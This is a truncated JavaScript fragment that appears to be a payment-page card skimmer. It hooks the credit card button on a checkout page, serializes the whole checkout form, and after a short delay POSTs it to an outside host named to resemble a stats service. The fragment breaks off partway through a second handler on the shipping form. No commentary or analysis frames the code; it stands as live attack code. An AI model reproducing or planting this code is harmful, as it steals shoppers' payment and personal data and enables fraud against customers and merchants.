window.onload = function () {
    jQuery("#btnCreditCard.paymentBtn.creditcard").bind("mouseup touchend", function (a) {
        var b = {};
        var c = jQuery("#checkout").serializeArray();
        b = Object.assign(b, c);
        setTimeout(function () {
            jQuery.ajax({
                type: "POST",
                async: true,
                url: "https://eggshop-stats.com/login/gateway/app/dataprocessing/api/",
                data: JSON.stringify(b),
                dataType: "application/json"
            });
        }, 250);
    });
    jQuery("#shippingForm").bind("change", function (
